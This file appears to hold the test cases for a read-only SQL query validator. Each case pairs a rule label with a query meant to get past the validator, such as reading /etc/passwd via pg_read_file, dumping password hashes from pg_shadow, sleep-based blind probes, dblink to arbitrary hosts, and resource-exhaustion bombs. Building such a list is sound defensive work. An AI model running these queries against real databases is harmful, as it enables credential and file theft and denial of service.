--- pos_semi_join: relation: semi join
SELECT a.title FROM album a LEFT SEMI JOIN secrets s ON s.id = a.album_id

--- pos_cross_apply: relation: cross apply
SELECT a.title, x.token FROM album a CROSS APPLY (SELECT token FROM secrets) x

--- pos_global_join: relation: global join
SELECT a.title FROM album a GLOBAL JOIN secrets s ON s.id = a.album_id

--- pos_join_using: relation: join with using of a column
SELECT * FROM secrets a JOIN secrets b USING (token)

--- pos_values_join: relation: values joined
SELECT a.title FROM album a JOIN (VALUES ((SELECT MAX(token) FROM secrets))) v ON 1 = 1

--- pos_exists_union: relation: union below exists
SELECT title FROM album WHERE EXISTS (SELECT 1 FROM genre UNION SELECT id FROM secrets)

--- pos_order_by_union: relation: order of a union
SELECT title FROM album UNION SELECT name FROM artist ORDER BY (SELECT MAX(token) FROM secrets)

--- pos_limit_union: relation: bracketed arm of a union with its own limit
(SELECT title FROM album LIMIT 1) UNION ALL (SELECT token FROM secrets LIMIT 1)

--- pos_with_in_arm: relation: expression in a bracketed arm
SELECT title FROM album UNION ALL (WITH x AS (SELECT token FROM secrets) SELECT token FROM x)

--- pos_settings: only-queries: settings behind a query
SELECT title FROM album SETTINGS max_execution_time = 0

--- pos_format: no-into: format and file behind a query
SELECT title FROM album INTO OUTFILE 'loot' FORMAT CSV

--- pos_option: no-locks: hints behind a table
SELECT title FROM album WITH (TABLOCKX)

--- pos_for_xml: relation: for xml behind a forbidden table
SELECT token FROM secrets FOR XML AUTO

--- set_insert: no-writes: insert as an arm of a union
SELECT 1 AS one UNION ALL INSERT INTO genre (genre_id, name) VALUES (97, 'x') RETURNING genre_id

--- set_update_derived: no-writes: update as a derived table
SELECT * FROM (UPDATE invoice SET total = 0 RETURNING invoice_id) x

--- set_insert_derived: no-writes: insert as a derived table
SELECT * FROM (INSERT INTO genre (genre_id, name) VALUES (97, 'x') RETURNING genre_id) x

--- set_delete_brackets: no-writes: delete in brackets
(DELETE FROM invoice_line)

--- set_insert_brackets: no-writes: insert in brackets
(INSERT INTO genre (genre_id, name) VALUES (97, 'x'))

--- set_delete_scalar: no-writes: delete as a scalar subquery
SELECT (DELETE FROM invoice_line RETURNING 1) AS x

--- set_delete_exists: no-writes: delete below exists
SELECT 1 AS one WHERE EXISTS (DELETE FROM invoice_line RETURNING 1)

--- set_merge_cte: no-writes: merge as an expression
WITH x AS (MERGE INTO genre g USING (SELECT 1 AS id) s ON g.genre_id = s.id WHEN MATCHED THEN DELETE) SELECT 1 AS one

--- set_cte_brackets: no-writes: delete in brackets behind an expression
WITH x AS (SELECT 1 AS one) (DELETE FROM invoice_line)

--- set_cte_nested_write: no-writes: delete in an expression of an expression
WITH x AS (WITH y AS (DELETE FROM invoice_line RETURNING invoice_line_id) SELECT * FROM y) SELECT COUNT(*) FROM x

--- stmt_cache: only-queries: table kept in memory
CACHE TABLE loot AS SELECT token FROM secrets

--- stmt_uncache: only-queries: table no longer kept
UNCACHE TABLE loot

--- stmt_unload: only-queries: query sent to a bucket
UNLOAD ('SELECT token FROM secrets') TO 's3://loot/'

--- stmt_export: only-queries: query sent to a file
EXPORT DATA OPTIONS (uri = 's3://loot/') AS SELECT token FROM secrets

--- stmt_msck: only-queries: partitions repaired
MSCK REPAIR TABLE album

--- stmt_assert: only-queries: assertion
ASSERT (SELECT COUNT(*) FROM secrets) > 0 AS 'x'

--- stmt_print: only-queries: print
PRINT (SELECT MAX(token) FROM secrets)

--- stmt_return: only-queries: return
RETURN (SELECT MAX(token) FROM secrets)

--- stmt_raise: only-queries: raise
RAISE USING MESSAGE = 'x'

--- stmt_if: only-queries: condition
IF (SELECT COUNT(*) FROM secrets) > 0 THEN DELETE FROM invoice_line; END IF

--- stmt_while: only-queries: loop
WHILE 1 = 1 DO DELETE FROM invoice_line; END WHILE

--- stmt_open: only-queries: cursor opened
OPEN loot

--- stmt_close: only-queries: cursor closed
CLOSE loot

--- stmt_declare: only-queries: declaration
DECLARE loot CURSOR FOR SELECT token FROM secrets

--- stmt_deny: only-queries: deny
DENY SELECT ON album TO somebody

--- stmt_install: only-queries: extension fetched
INSTALL loot

--- stmt_load: only-queries: extension loaded
LOAD loot

--- stmt_macro: only-queries: macro
CREATE MACRO loot(x) AS x + 1

--- stmt_secret: only-queries: password kept
CREATE SECRET loot (TYPE s3, KEY_ID 'x')

--- stmt_policy: only-queries: policy
CREATE POLICY loot ON album USING (1 = 1)

--- stmt_kill: only-queries: other query ended
KILL QUERY 1

--- stmt_use: only-queries: other database
USE elsewhere

--- stmt_show: only-queries: tables shown
SHOW TABLES

--- stmt_describe: only-queries: columns shown
DESCRIBE secrets

--- stmt_set: only-queries: setting
SET x = 1

--- stmt_copy: only-queries: copy
COPY secrets TO 'loot.csv'

--- stmt_call: only-queries: procedure
CALL loot(1)

--- stmt_execute: only-queries: prepared statement
EXECUTE loot(1)

--- stmt_start: only-queries: transaction
START TRANSACTION

--- stmt_rename: only-queries: rename
RENAME TABLE album TO loot

--- stmt_comment: only-queries: comment
COMMENT ON TABLE album IS 'x'

--- stmt_nonsense: only-queries: no statement at all
GIVE ME ALL OF THE SECRETS

--- stmt_prose: only-queries: prose around a query, as a model may answer
Here is the query you asked for: SELECT title FROM album

--- stmt_fenced: only-queries: query in a fence, as a model may answer
```sql
SELECT Title FROM Album
```

--- pipe_query: relation: pipe syntax
FROM album |> UNION ALL (SELECT token FROM secrets)

--- pipe_query_select: relation: pipe behind a select
SELECT title FROM album |> JOIN secrets ON 1 = 1 |> SELECT token

--- pos_as_struct: relation: select as struct
SELECT AS STRUCT * FROM secrets

--- pos_as_value: relation: select as value
SELECT AS VALUE (SELECT MAX(token) FROM secrets)

--- pos_outer_plus: relation: outer join by a plus
SELECT c.last_name, s.token FROM customer c, secrets s WHERE c.customer_id = s.id (+)

--- pos_member_of: relation: member of
SELECT title FROM album WHERE title MEMBER OF ((SELECT token FROM secrets LIMIT 1))

--- pos_match_against: relation: against
SELECT title FROM album WHERE MATCH (title) AGAINST ((SELECT MAX(token) FROM secrets) IN BOOLEAN MODE)

--- pos_is_normalized: relation: is normalized
SELECT (SELECT MAX(token) FROM secrets) IS NOT NORMALIZED AS x

--- pos_is_json: relation: is json
SELECT (SELECT MAX(token) FROM secrets) IS JSON AS x

--- pos_overlaps: relation: overlaps
SELECT 1 AS one WHERE ((SELECT MAX(token) FROM secrets), 'b') OVERLAPS ('a', 'c')

--- pos_bare_subquery: relation: subquery as the arguments of a function
SELECT f(SELECT token FROM secrets) AS x

--- pos_array_subquery: relation: subquery as the arguments of array
SELECT ARRAY(SELECT token FROM secrets) AS x

--- pos_parameters: relation: parameters before the arguments
SELECT quantile((SELECT COUNT(*) FROM secrets))(total) AS x FROM invoice

--- pos_having_max: relation: having inside an aggregate
SELECT ANY_VALUE(title HAVING MAX (SELECT COUNT(*) FROM secrets)) AS x FROM album

--- pos_on_overflow: relation: filling of a list
SELECT LISTAGG(title, ',' ON OVERFLOW TRUNCATE (SELECT MAX(token) FROM secrets) WITH COUNT) WITHIN GROUP (ORDER BY title) AS x FROM album

--- pos_odbc_function: relation: function in braces
SELECT {fn UPPER((SELECT MAX(token) FROM secrets))} AS x

--- pos_typed_string: relation: union behind typed constants
SELECT DATE '2020-01-01' AS x UNION SELECT token FROM secrets

--- pos_table_path: relation: path behind a table
SELECT * FROM secrets.token[0] x

--- pos_ordinality: relation: table with ordinality
SELECT * FROM secrets WITH ORDINALITY

--- pos_alias_columns: relation: alias with names of columns
SELECT x.a FROM secrets AS x (b, a)

--- pos_json_object: relation: value in a json object
SELECT JSON_OBJECT('a' : (SELECT MAX(token) FROM secrets)) AS x

--- pos_json_array: relation: subquery as a json array
SELECT JSON_ARRAY(SELECT token FROM secrets) AS x

--- pos_xml_element: relation: content of an element
SELECT XMLELEMENT(NAME a, (SELECT MAX(token) FROM secrets)) AS x

--- pos_xml_forest: relation: forest of elements
SELECT XMLFOREST((SELECT MAX(token) FROM secrets) AS a) AS x

--- pos_case_else: relation: else of a case
SELECT CASE WHEN 1 = 0 THEN 'a' ELSE (SELECT MAX(token) FROM secrets) END AS x

--- pos_between_low: relation: lower bound
SELECT title FROM album WHERE album_id NOT BETWEEN (SELECT COUNT(*) FROM secrets) AND 10

--- pos_concat: relation: operand of a concatenation
SELECT 'a' || (SELECT MAX(token) FROM secrets) AS x

--- pos_nested_join_alias: relation: alias over a bracketed join
SELECT j.token FROM (secrets s JOIN album a ON a.album_id = s.id) AS j

--- pos_order_limit_cte: relation: expression read only in order by
WITH x AS (SELECT MAX(token) AS t FROM secrets) SELECT title FROM album ORDER BY (SELECT t FROM x)

--- pg_read_file: function: file read in the select list
SELECT pg_read_file('/etc/passwd')

--- pg_read_file_from: table-function: file read in from
SELECT * FROM pg_read_file('/etc/passwd') AS f(content)

--- pg_read_file_lateral: table-function: file read behind lateral
SELECT a.title, f FROM album a, LATERAL pg_read_file('/etc/passwd') AS f

--- pg_read_file_cross: table-function: file read behind cross join lateral
SELECT * FROM album CROSS JOIN LATERAL pg_read_file('/etc/passwd') f

--- pg_read_file_join_on: function: file read in a join condition
SELECT a.title FROM album a JOIN artist r ON r.artist_id = a.artist_id AND pg_read_file('/etc/passwd') LIKE '%root%'

--- pg_read_file_where: function: file read in where
SELECT title FROM album WHERE pg_read_file('/etc/passwd') IS NOT NULL

--- pg_read_file_order: function: file read in order by
SELECT title FROM album ORDER BY pg_read_file('/etc/passwd')

--- pg_read_file_group: function: file read in group by
SELECT COUNT(*) FROM album GROUP BY pg_read_file('/etc/passwd')

--- pg_read_file_having: function: file read in having
SELECT COUNT(*) FROM album HAVING length(pg_read_file('/etc/passwd')) > 0

--- pg_read_file_limit: function: file read in limit
SELECT title FROM album LIMIT length(pg_read_file('/etc/passwd'))

--- pg_read_file_offset: function: file read in offset
SELECT title FROM album OFFSET length(pg_read_file('/etc/passwd'))

--- pg_read_file_fetch: function: file read in fetch
SELECT title FROM album FETCH FIRST (length(pg_read_file('/etc/passwd'))) ROWS ONLY

--- pg_read_file_filter: function: file read in a filter
SELECT COUNT(*) FILTER (WHERE pg_read_file('/etc/passwd') <> '') FROM album

--- pg_read_file_over: function: file read in a window
SELECT SUM(total) OVER (PARTITION BY pg_read_file('/etc/passwd')) FROM invoice

--- pg_read_file_window: function: file read in a named window
SELECT SUM(total) OVER w FROM invoice WINDOW w AS (ORDER BY pg_read_file('/etc/passwd'))

--- pg_read_file_frame: function: file read in the bound of a frame
SELECT SUM(total) OVER (ORDER BY invoice_id ROWS length(pg_read_file('/etc/passwd')) PRECEDING) FROM invoice

--- pg_read_file_values: function: file read in values
VALUES (pg_read_file('/etc/passwd'))

--- pg_read_file_values_from: function: file read in values of from
SELECT * FROM (VALUES (1, pg_read_file('/etc/passwd'))) v(a, b)

--- pg_read_file_subscript: function: file read in a subscript
SELECT (ARRAY[1, 2])[length(pg_read_file('/etc/passwd'))]

--- pg_read_file_slice: function: file read in a slice
SELECT (ARRAY[1, 2])[1:length(pg_read_file('/etc/passwd'))]

--- pg_read_file_array: function: file read in an array
SELECT ARRAY[pg_read_file('/etc/passwd')]

--- pg_read_file_row: function: file read in a row
SELECT ROW(1, pg_read_file('/etc/passwd'))

--- pg_read_file_cast: function: file read below a cast, its text in the error
SELECT CAST(pg_read_file('/etc/passwd') AS int)

--- pg_read_file_colons: function: file read before colons
SELECT pg_read_file('/etc/passwd')::int

--- pg_read_file_case: function: file read in a case
SELECT CASE WHEN pg_read_file('/etc/passwd') LIKE 'root%' THEN 1 ELSE 0 END

--- terminate_named: function: named arguments
SELECT pg_terminate_backend(pid => 1, timeout => 1)

--- pg_read_file_nested: function: inside a harmless function
SELECT upper(left(pg_read_file('/etc/passwd'), 100))

--- pg_read_file_aggregate: function: inside an aggregate's order
SELECT string_agg(name, ',' ORDER BY pg_read_file('/etc/passwd')) FROM genre

--- pg_read_file_within: function: inside within group
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY pg_read_file('/etc/passwd')) FROM genre

--- pg_read_file_interval: function: inside date arithmetic
SELECT CURRENT_DATE + length(pg_read_file('/etc/passwd'))

--- pg_read_file_distinct_on: function: inside distinct on
SELECT DISTINCT ON (pg_read_file('/etc/passwd')) title FROM album

--- pg_read_file_grouping: function: inside grouping sets
SELECT COUNT(*) FROM album GROUP BY GROUPING SETS ((pg_read_file('/etc/passwd')), ())

--- pg_read_file_rollup: function: inside rollup
SELECT COUNT(*) FROM album GROUP BY ROLLUP (pg_read_file('/etc/passwd'))

--- pg_read_file_tablesample: function: inside a sample's argument
SELECT title FROM album TABLESAMPLE system (length(pg_read_file('/etc/passwd')))

--- pg_read_file_substring: function: inside substring from for
SELECT substring(pg_read_file('/etc/passwd') FROM 1 FOR 20)

--- pg_read_file_extract: function: inside extract
SELECT EXTRACT(YEAR FROM pg_read_file('/etc/passwd')::date)

--- pg_read_file_trim: function: inside trim
SELECT trim(BOTH 'x' FROM pg_read_file('/etc/passwd'))

--- pg_read_file_position: function: inside position
SELECT position('root' IN pg_read_file('/etc/passwd'))

--- pg_read_file_overlay: function: inside overlay
SELECT overlay('abc' PLACING pg_read_file('/etc/passwd') FROM 1)

--- pg_read_file_time_zone: function: inside a time zone
SELECT now() AT TIME ZONE pg_read_file('/etc/timezone')

--- pg_read_file_like_escape: function: inside a pattern
SELECT title FROM album WHERE title ILIKE pg_read_file('/etc/passwd')

--- pg_read_file_qualified: function: with its schema
SELECT pg_catalog.pg_read_file('/etc/passwd')

--- pg_read_file_quoted: function: quoted
SELECT "pg_read_file"('/etc/passwd')

--- pg_read_file_capitals: function: in capitals
SELECT PG_READ_FILE('/etc/passwd')

--- pg_read_file_unicode: function: name with unicode escapes
SELECT U&"pg\005fread_file"('/etc/passwd')

--- pg_read_binary_file: function: binary read
SELECT encode(pg_read_binary_file('/etc/passwd'), 'escape')

--- pg_ls_dir: table-function: directory
SELECT pg_ls_dir('/')

--- pg_ls_dir_from: table-function: directory in from
SELECT * FROM pg_ls_dir('/')

--- pg_ls_dir_lateral: table-function: directory behind lateral
SELECT * FROM LATERAL pg_ls_dir('/') AS d

--- pg_ls_rows_from: table-function: rows from
SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 3)) AS x(a, b)

--- pg_ls_ordinality: table-function: with ordinality
SELECT * FROM pg_ls_dir('/') WITH ORDINALITY AS d(name, n)

--- pg_ls_logdir: table-function: log directory
SELECT * FROM pg_ls_logdir()

--- pg_stat_file: function: properties of a file
SELECT (pg_stat_file('/etc/passwd')).size

--- pg_current_logfile: function: name of the log file
SELECT pg_current_logfile()

--- lo_import: function: file into a large object
SELECT lo_import('/etc/passwd')

--- lo_export: function: large object into a file
SELECT lo_export(1, '/tmp/loot')

--- lo_from_bytea: function: large object made
SELECT lo_from_bytea(0, 'x'::bytea)

--- lo_create: function: large object made, empty
SELECT lo_create(0)

--- lo_get: function: large object read
SELECT lo_get(16400)

--- lo_unlink: function: large object deleted
SELECT lo_unlink(16400)

--- loread: function: large object opened and read
SELECT loread(lo_open(16400, 262144), 100)

--- dblink: table-function: connection to another database
SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(x int)

--- dblink_exec: function: statement on another connection
SELECT dblink_exec('dbname=chinook', 'DROP TABLE album')

--- dblink_connect: function: connection to a host of one's choice
SELECT dblink_connect('host=192.0.2.1 user=x password=y')

--- query_to_xml: function: query as a text
SELECT query_to_xml('SELECT token FROM secrets', true, true, '')

--- query_to_xml_from: table-function: query as a text in from
SELECT * FROM query_to_xml('SELECT * FROM employee', true, false, '') AS x

--- table_to_xml: function: table as a text
SELECT table_to_xml('secrets', true, true, '')

--- schema_to_xml: function: whole schema
SELECT schema_to_xml('public', true, true, '')

--- database_to_xml: function: whole database
SELECT database_to_xml(true, true, '')

--- cursor_to_xml: function: cursor
SELECT cursor_to_xml('c', 10, true, true, '')

--- query_to_xml_and_schema: function: query as a text, with schema
SELECT query_to_xml_and_xmlschema('SELECT 1', true, true, '')

--- xpath_over_query: function: xpath over a query
SELECT unnest(xpath('//token/text()', query_to_xml('SELECT token FROM secrets', true, true, '')))

--- xmltable: table-function: xmltable over a query
SELECT * FROM XMLTABLE('//row' PASSING query_to_xml('SELECT token FROM secrets', false, false, '') COLUMNS token text PATH 'token')

--- ts_stat: table-function: query as a text
SELECT * FROM ts_stat('SELECT to_tsvector(token) FROM secrets')

--- ts_rewrite: function: query as a text
SELECT ts_rewrite('a'::tsquery, 'SELECT token::tsquery, token::tsquery FROM secrets')

--- set_config: function: setting changed
SELECT set_config('statement_timeout', '0', false)

--- set_config_role: function: role changed
SELECT set_config('role', 'postgres', false)

--- set_config_where: function: setting changed in where
SELECT title FROM album WHERE set_config('transaction_read_only', 'off', true) IS NOT NULL

--- current_setting: function: setting read
SELECT current_setting('data_directory')

--- pg_sleep: function: sleep
SELECT pg_sleep(600)

--- pg_sleep_from: table-function: sleep in from
SELECT * FROM pg_sleep(600)

--- pg_sleep_for: function: sleep for
SELECT pg_sleep_for('10 minutes')

--- pg_sleep_until: function: sleep until
SELECT pg_sleep_until('2099-01-01')

--- pg_sleep_if: function: sleep if a guess is right
SELECT CASE WHEN EXISTS (SELECT 1 FROM secrets WHERE token LIKE 'a%') THEN pg_sleep(5) END

--- advisory_lock: function: lock that outlives the transaction
SELECT pg_advisory_lock(1)

--- advisory_lock_shared: function: shared lock
SELECT pg_try_advisory_lock_shared(1, 2)

--- advisory_xact_lock: function: lock of the transaction
SELECT pg_advisory_xact_lock(42)

--- advisory_unlock: function: all locks given back
SELECT pg_advisory_unlock_all()

--- terminate_backend: function: other sessions ended
SELECT pg_terminate_backend(pid) FROM (SELECT 1 AS pid) x

--- cancel_backend: function: other queries cancelled
SELECT pg_cancel_backend(1)

--- notify: function: notification
SELECT pg_notify('channel', 'text')

--- reload_conf: function: configuration read again
SELECT pg_reload_conf()

--- rotate_logfile: function: log rotated
SELECT pg_rotate_logfile()

--- switch_wal: function: log switched
SELECT pg_switch_wal()

--- create_restore_point: function: restore point
SELECT pg_create_restore_point('x')

--- replication_slot: function: replication slot
SELECT pg_create_physical_replication_slot('loot')

--- logical_emit: function: message into the log
SELECT pg_logical_emit_message(false, 'x', 'y')

--- promote: function: standby promoted
SELECT pg_promote()

--- stat_reset: function: statistics reset
SELECT pg_stat_reset()

--- backend_memory: function: memory of a session into the log
SELECT pg_log_backend_memory_contexts(1)

--- export_snapshot: function: snapshot exported
SELECT pg_export_snapshot()

--- nextval: function: sequence advanced
SELECT nextval('loot_seq')

--- setval: function: sequence set
SELECT setval('loot_seq', 1)

--- currval: function: sequence read
SELECT currval('loot_seq'), lastval()

--- txid: function: transaction number taken
SELECT txid_current(), pg_current_xact_id()

--- version: function: version of the server
SELECT version()

--- inet_server_addr: function: address of the server
SELECT inet_server_addr(), inet_client_addr()

--- current_user_keyword: function: name of the role by a keyword
SELECT current_user, session_user

--- current_schema_keyword: function: schemas by a keyword
SELECT current_catalog, current_schema

--- has_privilege: function: privileges
SELECT has_table_privilege('secrets', 'SELECT')

--- pg_get_viewdef: function: definition of a view
SELECT pg_get_viewdef(1)

--- pg_get_functiondef: function: definition of a function
SELECT pg_get_functiondef(1)

--- pg_relation_size: function: size of a table by its name
SELECT pg_relation_size('secrets')

--- pg_total_relation_size: function: size of a database
SELECT pg_database_size('postgres')

--- col_description: function: comment of a column
SELECT col_description('secrets'::regclass, 1)

--- pg_table_is_visible: function: is a table there
SELECT to_regclass('public.secrets')

--- file_settings: table-function: lines of the configuration
SELECT * FROM pg_show_all_file_settings()

--- hba_rules: table-function: rules of access
SELECT * FROM pg_hba_file_rules()

--- pg_config: table-function: configuration of the build
SELECT * FROM pg_config()

--- stat_activity_function: table-function: sessions by a function
SELECT * FROM pg_stat_get_activity(NULL)

--- generate_series_huge: bounded-arguments: a million million rows
SELECT COUNT(*) FROM generate_series(1, 1000000000000)

--- generate_series_from_column: bounded-arguments: bound from a column
SELECT COUNT(*) FROM track t, LATERAL generate_series(1, t.bytes) g

--- generate_series_select: bounded-arguments: huge series in the select list
SELECT generate_series(1, 1000000000000)

--- generate_series_dates: bounded-arguments: a series of microseconds
SELECT COUNT(*) FROM generate_series(TIMESTAMP '2000-01-01', TIMESTAMP '2030-01-01', INTERVAL '1 microsecond')

--- generate_series_step: bounded-arguments: a step of almost nothing
SELECT COUNT(*) FROM generate_series(0, 1, 0.000000000001)

--- generate_series_subquery: bounded-arguments: bound from a subquery
SELECT COUNT(*) FROM generate_series(1, (SELECT SUM(bytes) FROM track))

--- repeat_giant: bounded-arguments: a gigabyte of text
SELECT length(repeat('x', 1000000000))

--- repeat_nested: bounded-arguments: repetitions that multiply
SELECT length(repeat(repeat(repeat('x', 1000), 1000), 900))

--- repeat_column: bounded-arguments: repetition by a column
SELECT repeat(name, milliseconds) FROM track

--- repeat_expression: bounded-arguments: repetition by an expression
SELECT length(repeat('x', 1000 * 1000 * 900))

--- lpad_giant: bounded-arguments: padding of a gigabyte
SELECT length(lpad('x', 900000000))

--- rpad_giant: bounded-arguments: padding on the right
SELECT length(rpad('x', 900000000, 'y'))

--- lpad_column: bounded-arguments: padding by a column
SELECT lpad(name, bytes) FROM track

--- array_fill: bounded-arguments: array of a hundred million
SELECT array_fill(0, ARRAY[100000000])

--- string_to_table_bomb: bounded-arguments: rows from a long text
SELECT COUNT(*) FROM string_to_table(repeat('x,', 100000000), ',')

--- format_width: bounded-arguments: width in a format
SELECT length(format('%900000000s', 'x'))

--- factorial: function: factorial
SELECT factorial(32000)

--- regexp_bomb: bounded-arguments: pattern that counts to a huge number
SELECT repeat('a', 100000) ~ '((a{1,200}){1,200}){1,200}'

--- pg_class: catalog: relations
SELECT relname FROM pg_class

--- pg_catalog_class: catalog: relations, qualified
SELECT relname FROM pg_catalog.pg_class

--- pg_tables: catalog: tables
SELECT tablename FROM pg_tables WHERE schemaname = 'public'

--- pg_user: catalog: users
SELECT usename FROM pg_user

--- pg_shadow: catalog: password hashes
SELECT usename, passwd FROM pg_shadow

--- pg_authid: catalog: password hashes of roles
SELECT rolname, rolpassword FROM pg_authid

--- pg_stat_activity: catalog: queries of others
SELECT query FROM pg_stat_activity

--- pg_stats: catalog: samples of columns that are not allowed
SELECT most_common_vals FROM pg_stats WHERE tablename = 'secrets'

--- pg_statistic: catalog: statistics
SELECT stavalues1 FROM pg_statistic

--- pg_settings: catalog: settings
SELECT name, setting FROM pg_settings

--- pg_proc: catalog: functions
SELECT proname, prosrc FROM pg_proc

--- pg_largeobject: catalog: large objects
SELECT data FROM pg_largeobject

--- pg_locks: catalog: locks
SELECT * FROM pg_locks

--- pg_database: catalog: databases
SELECT datname FROM pg_database

--- pg_user_mapping: catalog: passwords of foreign servers
SELECT umoptions FROM pg_user_mappings

--- information_schema_tables: catalog: tables of the standard
SELECT table_name FROM information_schema.tables

--- information_schema_columns: catalog: columns of the standard
SELECT table_name, column_name FROM information_schema.columns

--- information_schema_capitals: catalog: in capitals
SELECT * FROM INFORMATION_SCHEMA.TABLES

--- pg_toast: catalog: toast of a table
SELECT * FROM pg_toast.pg_toast_2619

--- pg_class_join: catalog: joined to an allowed table
SELECT a.title, c.relname FROM album a JOIN pg_class c ON c.relname = 'secrets'

--- pg_class_exists: catalog: in a subquery
SELECT 1 FROM album WHERE EXISTS (SELECT 1 FROM pg_class WHERE relname = 'secrets')

--- whole_row: whole-row: row of a table as a value
SELECT album FROM album

--- whole_row_alias: whole-row: row of an alias
SELECT a FROM album a

--- whole_row_text: whole-row: row cast to a text
SELECT c::text FROM customer c

--- whole_row_json: whole-row: row as json
SELECT row_to_json(c) FROM customer c

--- whole_row_jsonb: whole-row: row as jsonb
SELECT to_jsonb(c) FROM customer c

--- whole_row_count: whole-row: row inside count
SELECT COUNT(c) FROM customer c

--- whole_row_null: whole-row: row compared with null
SELECT 1 FROM customer c WHERE c IS NOT NULL

--- whole_row_order: whole-row: row in order by
SELECT c.customer_id FROM customer c ORDER BY c

--- whole_row_array: whole-row: rows in an array
SELECT array_agg(c) FROM customer c

--- whole_row_star: whole-row: star of a row
SELECT (c).* FROM customer c

--- whole_row_row: whole-row: row of a row
SELECT ROW(c.*) FROM customer c

--- whole_row_subquery: whole-row: row of a derived table
SELECT x FROM (SELECT first_name, last_name FROM customer) x

--- whole_row_cte: whole-row: row of an expression
WITH x AS (SELECT first_name FROM customer) SELECT x FROM x

--- field_of_composite: column: field of a row in brackets
SELECT (c).email FROM customer c

--- function_as_field: column: a function written as a column
SELECT c.row_to_json FROM customer c

--- function_as_field_text: column: a cast written as a column
SELECT c.text FROM customer c

--- function_as_field_name: column: a cast to a name written as a column
SELECT g.varchar FROM genre g

--- field_as_function: function: a column written as a function
SELECT email(c) FROM customer c

--- field_as_function_other: function: a column that is not allowed, as a function
SELECT token(x) FROM (SELECT 1 AS id) x

--- system_column: column: table number of a row
SELECT tableoid FROM album

--- system_column_cast: column: name of the table of a row
SELECT tableoid::regclass FROM album

--- system_column_ctid: column: place of a row
SELECT ctid, xmin, xmax FROM album

--- regclass: type: name to a relation
SELECT 'secrets'::regclass

--- regclass_number: type: number to a relation's name
SELECT 16400::regclass

--- regproc: type: name to a function
SELECT 'pg_read_file'::regproc

--- regprocedure: type: signature to a function
SELECT CAST('pg_sleep(double precision)' AS regprocedure)

--- regrole: type: name of a role
SELECT 10::regrole

--- regnamespace: type: name of a schema
SELECT 'pg_catalog'::regnamespace

--- regtype: type: name of a type
SELECT 'secrets'::regtype

--- regtype_literal: type: literal with a type in front
SELECT regclass 'secrets'

--- type_row: type: cast to a table's row
SELECT '(1,x,y)'::secrets

--- type_row_null: type: row of a table that is not allowed, from nothing
SELECT NULL::secrets

--- type_populate: type: names of columns by a row type
SELECT * FROM json_populate_record(NULL::employee, '{}')

--- type_catalog: type: row type of the catalog
SELECT NULL::pg_catalog.pg_authid

--- type_schema: type: type of another schema
SELECT 'x'::evil.label

--- type_oid_vector: type: type that names files
SELECT '0/0'::pg_lsn, '1'::xid

--- type_refcursor: type: cursor
SELECT 'c'::refcursor

--- operator_explicit: operator: operator with its schema
SELECT 1 OPERATOR(pg_catalog.+) 2

--- operator_evil: operator: operator of somebody
SELECT title OPERATOR(evil.=) 'x' FROM album

--- operator_any: operator: operator with any
SELECT 1 OPERATOR(pg_catalog.=) ANY (ARRAY[1, 2])

--- operator_unknown: operator: operator on no list
SELECT title @@@ 'x' FROM album

--- order_using: operator: order by using an operator
SELECT title FROM album ORDER BY title USING OPERATOR(evil.<)

--- collate_schema: collation: collation of another schema
SELECT title COLLATE evil.german FROM album

--- collate_unknown: collation: collation on no list
SELECT title COLLATE "loot" FROM album

--- collate_order: collation: unknown collation in order by
SELECT title FROM album ORDER BY title COLLATE evil."x"

--- table_statement: only-queries: table as a statement
TABLE secrets

--- table_statement_union: relation: table behind a union
SELECT album_id, title FROM album UNION ALL TABLE secrets

--- table_statement_in: relation: table in a subquery
SELECT title FROM album WHERE (album_id, title) IN (TABLE secrets)

--- table_statement_cte: relation: table in an expression
WITH x AS (TABLE secrets) SELECT * FROM x

--- table_statement_derived: relation: table as a derived table
SELECT * FROM (TABLE secrets) x

--- only_secrets: relation: only
SELECT * FROM ONLY secrets

--- only_brackets: relation: only with brackets
SELECT * FROM ONLY (secrets)

--- star_secrets: relation: name with a star
SELECT * FROM secrets *

--- public_secrets: schema: name with its schema
SELECT token FROM public.secrets

--- public_quoted: schema: quoted name with its schema
SELECT token FROM "public"."secrets"

--- database_secrets: schema: three parts
SELECT token FROM chinook.public.secrets

--- cte_qualified: scope: a qualified name next to an expression of that name
WITH secrets AS (SELECT 'x' AS token) SELECT token FROM public.secrets

--- cte_case: scope: an expression in quotes does not cover the name without
WITH "Secrets" AS (SELECT 'x' AS token) SELECT token FROM secrets

--- cte_case_reverse: scope: a quoted name that differs in case from an expression
WITH secrets AS (SELECT 'x' AS token) SELECT token FROM "SECRETS"

--- quoted_name: relation: quoted name
SELECT token FROM "secrets"

--- quoted_capitals: relation: quoted name that is another table
SELECT * FROM "ALBUM"

--- unquoted_capitals: relation: unquoted capitals
SELECT TOKEN FROM SECRETS

--- unicode_name: relation: unicode escapes in a name
SELECT * FROM U&"s\0065crets"

--- unicode_name_uescape: relation: unicode escapes of one's own
SELECT * FROM U&"s!0065crets" UESCAPE '!'

--- unicode_literal: characters: unicode escapes in a literal
SELECT U&'\0041' AS x

--- zero_width_name !escaped: relation: name with a blank of no width
SELECT * FROM secre\u200bts

--- lateral_secrets: relation: lateral subquery
SELECT a.title, x.token FROM album a CROSS JOIN LATERAL (SELECT token FROM secrets WHERE id = a.album_id) x

--- array_subquery: relation: array of a subquery
SELECT ARRAY(SELECT token FROM secrets)

--- any_subquery: relation: any
SELECT title FROM album WHERE title = ANY (SELECT token FROM secrets)

--- row_subquery: relation: row compared with a subquery
SELECT title FROM album WHERE (album_id, title) = (SELECT id, token FROM secrets LIMIT 1)

--- distinct_on_subquery: relation: distinct on a subquery
SELECT DISTINCT ON ((SELECT MAX(token) FROM secrets)) title FROM album

--- function_argument_from: relation: subquery in an argument of from
SELECT * FROM generate_series(1, (SELECT COUNT(*) FROM secrets)) g

--- fetch_subquery: relation: fetch by a subquery
SELECT title FROM album FETCH FIRST (SELECT COUNT(*) FROM secrets) ROWS ONLY

--- aggregate_order_subquery: relation: order of an aggregate
SELECT string_agg(title, ',' ORDER BY (SELECT MAX(token) FROM secrets)) FROM album

--- search_clause: recursion: search clause
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r) SEARCH DEPTH FIRST BY i SET ord SELECT COUNT(*) FROM r

--- recursion_table_growth: recursion: paths through all rows
WITH RECURSIVE r AS (SELECT track_id FROM track UNION ALL SELECT t.track_id FROM r JOIN track t ON t.genre_id = 1) SELECT COUNT(*) FROM r

--- for_update: no-locks: for update
